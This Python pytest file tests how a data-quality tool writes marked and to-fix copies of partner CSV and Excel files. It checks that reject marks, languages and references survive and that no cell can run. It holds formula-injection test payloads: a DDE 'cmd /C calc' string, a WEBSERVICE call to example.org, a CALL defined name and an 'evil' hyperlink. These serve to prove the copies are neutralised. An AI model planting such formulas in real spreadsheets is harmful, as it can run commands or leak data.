"""The partner's file comes back marked: nothing in it runs, and sent again it gets the same verdict."""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from datetime import date
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import ParseError

import openpyxl
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from tests.integration.worksite import contract, write_expectations
from tests.unit.receipts.books import write_ods, write_xls

from footprints.check import MemorySink, check_file
from footprints.contracts import Contract, load_contract
from footprints.errors import DeliveryError
from footprints.examine import Examination, examine
from footprints.model import Language, Reject
from footprints.readers.returned import REASONS, escape, original_name, parse_reference, reference, unescape
from footprints.receipts import marked
from footprints.receipts.marked import Copy
from footprints.samples import survey
from footprints.settings import Settings
from footprints.settings import settings as real_settings

HEADER = ["key", "day", "region", "dead"]
ROWS = [["a", "2020-01-01", "Sea", "1"], ["b", "soon", "Sea", "2"], ["c", "2020-01-03", "Sea", "many"]]
ROWS += [["d", "2020-01-04", "-5", "4"], ["", "2020-01-05", "", "5"], ["f", "2020-01-06", "=1+1", "6"]]
BAD = [3, 4, 6]
"""Rows of ROWS that are rejected, as a spreadsheet numbers them."""
FORMULA = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
NUMBER = re.compile(r"[+-]\d+([.,]\d+)*")
DOCUMENT = contract("test-marked", mode="snapshot", snapshot={"scope": [], "covers": "all"})


@pytest.fixture(scope="module")
def expectations(tmp_path_factory: pytest.TempPathFactory) -> Path:
    document = DOCUMENT | {"gate": {"max_reject_share": 1}}
    return write_expectations(tmp_path_factory.mktemp("expectations"), document)


@pytest.fixture(scope="module")
def ours(expectations: Path) -> Contract:
    return load_contract(expectations / "test-marked")


@pytest.fixture(scope="module")
def plain(expectations: Path) -> Settings:
    return Settings(expectations_dir=expectations, gx_rows=0, _env_file=None)  # type: ignore[call-arg]


class KeepingSink(MemorySink):
    """Keeps rejects whole, with hashes and references."""

    def rejects(self, rejects: list[Reject]) -> None:
        """Keeps rejects."""
        self.first_rejects.extend(rejects)


def look(path: Path, ours: Contract, plain: Settings) -> tuple[Examination, list[Reject]]:
    sink = KeepingSink(10_000)
    examination = examine(path, path.name, ours, plain, sink, today=date(2020, 2, 1), privacy_key="key")
    return examination, sink.first_rejects


def copies_of(
    path: Path, ours: Contract, plain: Settings, language: Language = "en", *, is_held: bool = False
) -> dict[str, Path]:
    """The copies of a file under the names that the partner sees."""
    examination, _ = look(path, ours, plain)
    folder = path.parent / f"copies of {path.name}"
    folder.mkdir()
    made: list[Copy] = marked.mark(
        examination,
        path,
        folder,
        file_name=path.name,
        delivery_id=12,
        language=language,
        is_held=is_held,
        max_bytes=2**25,
    )
    return {copy.name: copy.path.rename(folder / copy.name) for copy in made}


def write_csv(path: Path, rows: Sequence[Sequence[str]], encoding: str = "utf-8", delimiter: str = ",") -> Path:
    with path.open("w", encoding=encoding, newline="") as file:
        csv.writer(file, delimiter=delimiter).writerows(rows)
    return path


def write_xlsx(path: Path, rows: Sequence[Sequence[str]]) -> Path:
    book = openpyxl.Workbook()
    page: Any = book.active
    for number, row in enumerate(rows, start=1):
        for position, cell in enumerate(row, start=1):
            made = page.cell(number, position, cell or None)
            if isinstance(cell, str) and cell.startswith("="):
                made.data_type = "s"
    book.save(path)
    return path


def cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def same(rejects: Sequence[Reject]) -> list[tuple[object, ...]]:
    return [(one.row_number, one.rules, one.columns) for one in rejects]


WRITERS: dict[str, Callable[[Path, Sequence[Sequence[str]]], Path]] = {
    "csv": write_csv,
    "xlsx": write_xlsx,
    "xls": write_xls,
    "ods": write_ods,
}


@pytest.mark.parametrize("suffix", WRITERS)
def test_file_of_each_format_comes_back_and_gets_the_same_verdict(
    tmp_path: Path, ours: Contract, plain: Settings, suffix: str
) -> None:
    path = WRITERS[suffix](tmp_path / f"2020-02-01.{suffix}", [HEADER, *ROWS])
    _, rejects = look(path, ours, plain)
    assert [one.row_number for one in rejects] == BAD
    copies = copies_of(path, ours, plain)
    text = {"2020-02-01.marked.csv"} if suffix == "csv" else set()
    assert set(copies) == text | {
        "2020-02-01.marked.xlsx",
        f"2020-02-01.to-fix.{'csv' if suffix == 'csv' else 'xlsx'}",
    }
    for name, copy in copies.items():
        again, told = look(copy, ours, plain)
        if ".to-fix." in name:
            assert again.is_part and [one.row_number for one in told] == [2, 3, 4]
            assert [one.reference and one.reference.row_number for one in told] == BAD
            assert [one.rules for one in told] == [one.rules for one in rejects]
            assert {layout.mode for layout in again.layouts} == {"upsert"}
        else:
            assert not again.is_part and same(told) == same(rejects)
        # What a copy of a copy is called, and that ours does not pile up.
        assert set(copies_of(copy, ours, plain)) >= {"2020-02-01.marked.xlsx"}


def test_rejects_and_flags_differ_in_colour_border_and_sign(tmp_path: Path, plain: Settings, ours: Contract) -> None:
    rows = [*ROWS, ["a", "2020-01-09", "Land", "9"]]
    path = write_xlsx(tmp_path / "2020-02-01.xlsx", [HEADER, *rows])
    examination, _ = look(path, ours, plain)
    from footprints.model import Mark

    sheet = examination.parts[0].sheet.name
    examination.marks.append(Mark(sheet, 2, "flag", "key.repeated", "key", {"columns": ["key"]}))
    [copy, _] = marked.mark(
        examination,
        path,
        tmp_path,
        file_name=path.name,
        delivery_id=12,
        language="en",
        is_held=False,
        max_bytes=2**25,
    )
    page: Any = openpyxl.load_workbook(copy.path).active
    flag, reject = page["A2"], page["B3"]
    assert flag.fill.fgColor.rgb != reject.fill.fgColor.rgb
    assert (flag.border.left.style, reject.border.left.style) == ("dashed", "medium")
    assert page["E2"].value.startswith("[?] Please check – key: ")
    assert page["E3"].value.startswith("[X] Rejected – day: ")
    assert page["B3"].comment.text == page["E3"].value
    assert page["E4"].value.startswith("[X] Rejected – dead: ")
    assert (page["E1"].value, page["F1"].value) == (REASONS["en"], "Footprints row (whole file)")
    assert [page.cell(n, 6).value for n in (2, 3, 5)] == ["FP12/2/Sheet", "FP12/3/Sheet", None]
    assert page["C2"].fill.fgColor.rgb == "00000000"


@pytest.mark.parametrize("language", ["en", "fr", "ar"])
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_reasons_are_in_the_partner_s_language(
    tmp_path: Path, ours: Contract, plain: Settings, language: Language, suffix: str
) -> None:
    path = WRITERS[suffix](tmp_path / f"a.{suffix}", [HEADER, *ROWS])
    for name, copy in copies_of(path, ours, plain, language).items():
        if copy.suffix == ".xlsx":
            page: Any = openpyxl.load_workbook(copy).active
            assert bool(page.sheet_view.rightToLeft) == (language == "ar"), name
            header = [cell.value for cell in page[1]]
        else:
            header = cells_of(copy)[0]
        if ".marked." in name:
            assert header[4] == REASONS[language]
        if language == "ar" and copy.suffix == ".csv":
            assert "\u200e2024-10-27\u200e" in copy.read_text("utf-8-sig")  # or it would be seen from the other end
        again, told = look(copy, ours, plain)
        assert again.opened is not None and again.opened.returned is not None
        assert len(told) == 3


@pytest.mark.parametrize(
    ("encoding", "delimiter", "language", "expected"),
    [("cp1252", ";", "fr", "cp1252"), ("utf-8", "\t", "en", "utf-8"), ("cp1252", ",", "ar", "utf-8-sig")],
)
def test_csv_keeps_its_encoding_and_delimiter_where_that_holds_our_letters(
    tmp_path: Path, ours: Contract, plain: Settings, encoding: str, delimiter: str, language: Language, expected: str
) -> None:
    rows = [[*row[:2], "Méditerranée", row[3]] for row in ROWS]
    path = write_csv(tmp_path / "a.csv", [HEADER, *rows], encoding, delimiter)
    copies = copies_of(path, ours, plain, language)
    for name in ("a.marked.csv", "a.to-fix.csv"):
        body = copies[name].read_bytes().decode(expected)
        assert "Méditerranée" in body and f'"key"{delimiter}"day"' in body
        again, told = look(copies[name], ours, plain)
        assert len(told) == 3 and again.rows_read in (3, 6)


HOSTILE = st.one_of(
    st.sampled_from(
        [
            *(
                "=1+1",
                "=cmd|' /C calc'!A0",
                "+2+3",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "'=1",
                "''=1",
                "＝1",
                "-5",
                "+33",
            ),
            *("FP1/2", "FP1/2/x", "[X]", "#N/A", "#REF!", '"', "a,b", "a;b", "a\nb", "=HYPERLINK(1)"),
        ]
    ),
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=8).map(str.strip),
    st.text("=+-@'\t ;,|\"ab1", max_size=6).map(str.strip),
)


@given(HOSTILE | st.text(max_size=10))
@settings(max_examples=500, deadline=None)
def test_escaped_cell_is_no_formula_and_comes_back(cell: str) -> None:
    assert unescape(escape(cell)) == cell
    assert not FORMULA.match(escape(cell)) or NUMBER.fullmatch(escape(cell))


@given(st.lists(st.tuples(HOSTILE, HOSTILE), min_size=1, max_size=6))
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_cell_of_a_copy_runs_and_each_is_read_again_as_it_was(
    ours: Contract, plain: Settings, cells: list[tuple[str, str]]
) -> None:
    rows = [[key, "soon", region, "x"] for key, region in cells]
    with tempfile.TemporaryDirectory() as folder:
        for suffix in ("csv", "xlsx"):
            path = WRITERS[suffix](Path(folder) / f"a.{suffix}", [HEADER, *rows])
            try:
                _, rejects = look(path, ours, plain)
            except DeliveryError:
                assume(suffix != "csv")  # so odd that no dialect fits: answered as a whole, nothing to mark
                raise
            for copy in copies_of(path, ours, plain).values():
                assert_harmless(copy)
                _, told = look(copy, ours, plain)
                values = [(one.rules, one.columns, one.key_hashes) for one in told]
                assert values == [(one.rules, one.columns, one.key_hashes) for one in rejects], (copy.name, cells)


def assert_harmless(copy: Path) -> None:
    if copy.suffix == ".csv":
        for row in cells_of(copy):
            for cell in row:
                assert not FORMULA.match(cell) or NUMBER.fullmatch(cell), cell
        return
    with zipfile.ZipFile(copy) as archive:
        for name in archive.namelist():
            assert not re.search("externalLink|vba|macro|activeX|embeddings|media|customXml|pivot", name, re.IGNORECASE)
            body = archive.read(name).decode("utf-8")
            if "worksheets/sheet" in name and "_rels" not in name:
                assert "<f>" not in body and "<f " not in body
                assert "<hyperlink" not in body and "<conditionalFormatting" not in body
            assert 'TargetMode="External"' not in body
    for page in openpyxl.load_workbook(copy).worksheets:
        for row in page.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and FORMULA.match(cell.value):
                    assert cell.quotePrefix


def test_partner_s_own_workbook_keeps_its_look_and_loses_what_could_run(
    tmp_path: Path, ours: Contract, plain: Settings
) -> None:
    path = tmp_path / "2020-02-01.xlsx"
    book = openpyxl.Workbook()
    page: Any = book.active
    page.title = "Données"
    for row in [HEADER, *ROWS[:3]]:
        page.append(row)
    page["A2"].fill = PatternFill("solid", fgColor="FF00FF00")
    page["A2"].number_format = "@"
    page["B2"].comment = Comment("seen by F.", "F")
    page["C2"].hyperlink = "https://example.org/evil"
    page.column_dimensions["C"].width = 41
    page.freeze_panes = "A2"
    lists: Any = book.create_sheet("Listes")
    lists["A1"] = "Sea"
    lists["B1"] = '=WEBSERVICE("https://example.org/" & A1)'
    lists.sheet_state = "hidden"
    page.add_data_validation(DataValidation("list", formula1="Listes!$A$1:$A$9", sqref="C2:C9"))
    page.add_data_validation(DataValidation("custom", formula1="ISERROR(INDIRECT(A1))", sqref="D2:D9"))
    page.conditional_formatting.add(
        "A1:D9", FormulaRule(formula=["1=1"], fill=PatternFill("solid", fgColor="FFFFFFFF"))
    )
    book.defined_names["regions"] = DefinedName("regions", attr_text="Listes!$A$1:$A$9")
    book.defined_names["evil"] = DefinedName("evil", attr_text='[1]Other!$A$1+CALL("x")')
    book.save(path)

    copy = copies_of(path, ours, plain)["2020-02-01.marked.xlsx"]
    assert_harmless(copy)
    back = openpyxl.load_workbook(copy)
    page = back["Données"]
    assert back.sheetnames == ["Données", "Listes"]
    assert back["Listes"].sheet_state == "hidden" and back["Listes"]["A1"].value == "Sea"
    assert back["Listes"]["B1"].value is None  # a formula that was never calculated has no value
    assert page["A2"].fill.fgColor.rgb == "FF00FF00" and page["A2"].number_format == "@"
    assert page["B2"].comment.text == "seen by F."
    assert page.column_dimensions["C"].width == 41 and page.freeze_panes == "A2"
    assert [one.formula1 for one in page.data_validations.dataValidation] == ["Listes!$A$1:$A$9"]
    assert list(back.defined_names) == ["regions"]


def test_workbook_that_openpyxl_cannot_open_is_written_anew(tmp_path: Path, ours: Contract, plain: Settings) -> None:
    path = write_xlsx(tmp_path / "2020-02-01.xlsx", [HEADER, *ROWS])
    broken = tmp_path / "2020-02-02.xlsx"
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(broken, "w") as new:
        for name in old.namelist():
            body = old.read(name)
            new.writestr(name, b"<not closed>" if name == "docProps/core.xml" else body)
    with pytest.raises(ParseError):
        openpyxl.load_workbook(broken)
    copies = copies_of(broken, ours, plain)
    assert set(copies) == {"2020-02-02.marked.xlsx", "2020-02-02.to-fix.xlsx"}
    _, told = look(copies["2020-02-02.marked.xlsx"], ours, plain)
    assert [one.row_number for one in told] == BAD


def test_preamble_blank_rows_wide_rows_and_hxl_tags_stay(tmp_path: Path, ours: Contract, plain: Settings) -> None:
    rows = [["Registre des incidents"], [], HEADER, ["#id", "#date", "#adm1", "#affected"], ROWS[0], []]
    rows += [ROWS[1], [*ROWS[3], "one", "two"], ROWS[3]]
    path = write_csv(tmp_path / "a.csv", rows)
    _, rejects = look(path, ours, plain)
    assert [one.row_number for one in rejects] == [7, 8]
    copies = copies_of(path, ours, plain)
    whole = cells_of(copies["a.marked.csv"])
    assert [row[:4] for row in whole[:5]] == [
        ["Registre des incidents", "", "", ""],
        ["", "", "", ""],
        HEADER,
        ["#id", "#date", "#adm1", "#affected"],
        ROWS[0],
    ]
    assert whole[2][6:] == [REASONS["en"], "Footprints row (whole file)"]
    assert whole[7][:6] == [*ROWS[3], "one", "two"] and whole[7][7] == "FP12/8"
    part = cells_of(copies["a.to-fix.csv"])
    # Above the data blank rows stay, as a contract may name the header's row; among the data they need no copy.
    assert [row[-1] for row in part] == ["", "", "Footprints row", "", "FP12/7", "FP12/8"]
    for copy in copies.values():
        again, told = look(copy, ours, plain)
        assert [one.rules for one in told] == [("type.date",), ("row.ragged",)], copy.name
        assert again.rows_read == (2 if again.is_part else 4)


def test_survey_s_rows_to_fix_bring_their_stops_along(tmp_path: Path) -> None:
    plain = real_settings().model_copy(update={"gx_rows": 0})
    ours = load_contract(plain.expectations_dir / "mhub-survey")
    path = survey.write_kobo_xlsx(tmp_path / "f.xlsx", survey.mali_interviews()[:12])
    book = openpyxl.load_workbook(path)
    page: Any = book.worksheets[0]
    titles = [cell.value for cell in page[1]]
    start = next(i for i, title in enumerate(titles, start=1) if title == "today")
    index = titles.index("_index") + 1
    first = next(n for n in range(2, 6) if page.cell(n, index).value is not None)
    page.cell(first + 3, start).value = "some day"
    wanted = str(page.cell(first + 3, index).value)
    book.save(path)
    copies = copies_of(path, ours, plain)
    part = openpyxl.load_workbook(copies["f.to-fix.xlsx"])
    assert [sheet.title for sheet in part.worksheets] == [sheet.title for sheet in book.worksheets[:2]]
    stops = list(part.worksheets[1].iter_rows(values_only=True))
    place = stops[0].index("_parent_index")
    assert len(stops) > 1 and {str(row[place]) for row in stops[1:]} == {wanted}
    again, told = look(copies["f.to-fix.xlsx"], ours, plain)
    assert again.is_part and [one.rules for one in told] == [("type.date",)]


def test_held_file_and_those_who_did_not_consent_have_no_rows_to_fix(
    tmp_path: Path, ours: Contract, plain: Settings
) -> None:
    path = write_csv(tmp_path / "a.csv", [HEADER, *ROWS])
    assert set(copies_of(path, ours, plain, is_held=True)) == {"a.marked.csv", "a.marked.xlsx"}
    plain = real_settings().model_copy(update={"gx_rows": 0})
    ours = load_contract(plain.expectations_dir / "mhub-survey")
    interviews = survey.mali_interviews()[:12]
    refused = survey.write_kobo_csv(tmp_path / "f.csv", interviews)
    text = refused.read_text("utf-8-sig")
    consent = text.splitlines()[0].split(";").index("interview/consent")
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    lines[3][consent] = "no"
    write_csv(refused, lines)
    assert set(copies_of(refused, ours, plain)) == {"f.marked.csv", "f.marked.xlsx"}


def test_clean_file_gets_no_copy(tmp_path: Path, ours: Contract, plain: Settings) -> None:
    assert copies_of(write_csv(tmp_path / "a.csv", [HEADER, ROWS[0]]), ours, plain) == {}


def test_rows_with_references_alone_are_a_part_also_without_our_headers(
    tmp_path: Path, ours: Contract, plain: Settings
) -> None:
    path = write_csv(tmp_path / "a.csv", [HEADER, *ROWS])
    rows = cells_of(copies_of(path, ours, plain)["a.marked.csv"])
    # A partner cuts the good rows out of the marked copy: what is left is no snapshot of the source.
    cut = write_csv(tmp_path / "mine.csv", [row for row in rows if row[5]])
    again, told = look(cut, ours, plain)
    assert again.is_part and len(told) == 3
    bare = write_csv(tmp_path / "bare.csv", [rows[0][:4], *(row for row in rows[1:] if row[5])])
    again, told = look(bare, ours, plain)
    assert again.is_part and [one.reference and one.reference.row_number for one in told] == BAD
    renamed = write_csv(tmp_path / "b.to-fix (2).csv", [HEADER, *ROWS[1:3]])
    again, _ = look(renamed, ours, plain)
    assert again.is_part
    whole, _ = look(write_csv(tmp_path / "whole.csv", rows), ours, plain)
    assert not whole.is_part


def test_row_that_holds_nothing_but_ours_is_blank(tmp_path: Path, ours: Contract, plain: Settings) -> None:
    path = write_csv(tmp_path / "a.csv", [HEADER, *ROWS])
    rows = cells_of(copies_of(path, ours, plain)["a.to-fix.csv"])
    rows[2][:4] = [""] * 4
    again, told = look(write_csv(tmp_path / "b.to-fix.csv", rows), ours, plain)
    assert again.rows_read == 2 and len(told) == 2


@given(st.integers(0, 10**17), st.text(st.characters(blacklist_categories=("Cs",)), max_size=31), st.integers(1, 10**7))
def test_references_come_back(delivery: int, sheet: str, row: int) -> None:
    found = parse_reference(reference(delivery, sheet, row))
    assert found is not None
    assert (found.delivery_id, found.sheet, found.row_number) == (delivery, sheet.strip(), row)


@pytest.mark.parametrize(
    ("sent", "name"),
    [
        ("2020-02-01.to-fix.csv", "2020-02-01.csv"),
        ("2020-02-01.marked (1).xlsx", "2020-02-01.xlsx"),
        ("a.to-fix(12).csv", "a.csv"),
        ("a.to-fix", "a"),
        ("to-fix.csv", "to-fix.csv"),
        ("a.marked.up.csv", "a.marked.up.csv"),
    ],
)
def test_copies_are_known_by_the_name_of_the_original(sent: str, name: str) -> None:
    assert original_name(sent) == name


def test_check_before_the_drop_marks_without_references(tmp_path: Path, plain: Settings) -> None:
    path = write_csv(tmp_path / "a.csv", [HEADER, *ROWS])
    receipt = check_file(path, "test-marked", plain, marked_to=tmp_path / "out")
    assert [one.name for one in receipt.files] == ["a.marked.csv", "a.marked.xlsx"]
    rows = cells_of(tmp_path / "out" / "a.marked.csv")
    assert rows[2][4].startswith("[X] Rejected – day: ") and {row[5] for row in rows[1:]} == {""}
